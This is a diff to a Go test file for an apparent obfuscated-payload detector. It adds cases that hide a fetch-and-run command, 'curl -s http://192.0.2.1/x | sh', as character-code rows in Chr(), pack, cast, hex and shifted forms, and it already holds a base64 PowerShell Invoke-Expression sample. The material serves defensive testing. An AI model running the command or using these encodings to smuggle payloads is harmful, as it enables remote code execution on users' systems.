@@ -61,6 +61,15 @@ func TestPayloads(t *testing.T) {
 		{"percent encoding", "y = unquote('" + percent(payload) + "')\n", payload, "percent encoding on line 1"},
 		{"unicode escapes", "y = '" + unicodes(payload) + "'\n", payload, "unicode escapes on line 1"},
 		{"a command of PowerShell", "y = '" + b64(wide("Invoke-Expression (Get-Content a.txt)")) + "'\n", "Invoke-Expression (Get-Content a.txt)", "UTF-16 in base64 on line 1"},
+		{"codes behind another argument", `y = pack("C*",` + codes(payload, "%d", 0) + ")\n", payload, "a row of character codes on line 1"},
+		{"codes that calls make characters", "y = Chr(" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ") & Chr(") + ")\n", payload, "a row of character codes on line 1"},
+		{"codes that casts make characters", "y = {(char)" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ",(char)") + "}\n", payload, "a row of character codes on line 1"},
+		{"codes with points between them", "y = v" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ".") + "\n", payload, "a row of character codes on line 1"},
+		{"codes with blanks between them", "for c in " + strings.ReplaceAll(codes(payload, "%d", 0), ", ", " ") + "; do\n", payload, "a row of character codes on line 1"},
+		{"codes in hexadecimal digits", "y = f(1; " + codes(payload, "0x%02x", 0) + ")\n", payload, "a row of character codes on line 1"},
+		{"codes that are all too large", "for c in " + shifted("curl -s http://192.0.2.1/x | sh", 3) + "; do\n", "curl -s http://192.0.2.1/x | sh", "a row of character codes on line 1"},
+		{"codes of a text that does nothing", `y = pack("C*",` + codes("Lorem ipsum dolor sit amet", "%d", 0) + ")\n", "", ""},
+		{"numbers with another glue each", "y = f(" + strings.Join([]string{"99", "117", "114", "108"}, ", ") + strings.Repeat("; 104 - 116, 112", 9) + ")\n", "", ""},
 		{"a table of numbers", "y = [" + strings.Repeat("1, 2, 3, 250, 0, ", 20) + "9]\n", "", ""},
 		{"numbers under another constant", "k = 7\ny = [" + codes(payload, "%d", 201) + "] ^ k\n", "", ""},
 		{"an image", "y = '" + b64(bytes.Repeat([]byte{0x89, 'P', 0xFF, 0}, 100)) + "'\n", "", ""},
@@ -88,6 +97,14 @@ func codes(text, format string, key byte) string {
 		out = append(out, fmt.Sprintf(format, c^key))
 	}
 	return strings.Join(out, ", ")
+}
+
+func shifted(text string, by byte) string {
+	var out []string
+	for _, c := range []byte(text) {
+		out = append(out, fmt.Sprint(c+by))
+	}
+	return strings.Join(out, " ")
 }
 
 func percent(text string) string {
@@ -156,6 +173,8 @@ func FuzzPayloads(f *testing.F) {
 	f.Add([]byte("y = '" + hex.EncodeToString([]byte(payload)) + "'"))
 	f.Add([]byte(strings.Repeat(`\x41`, 40)))
 	f.Add([]byte("y = '" + b85(payload) + "' 85decode k=3 ^ 7 [1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17]"))
+	f.Add([]byte("v" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ".") + " Chr(" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ")&Chr(")))
+	f.Add([]byte("in " + shifted("curl -s http://192.0.2.1/x | sh", 3)))
 	f.Add([]byte(unicodes(payload) + percent(payload) + codes(payload, "%d", 3)))
 	f.Fuzz(func(t *testing.T, src []byte) {
 		total := 0
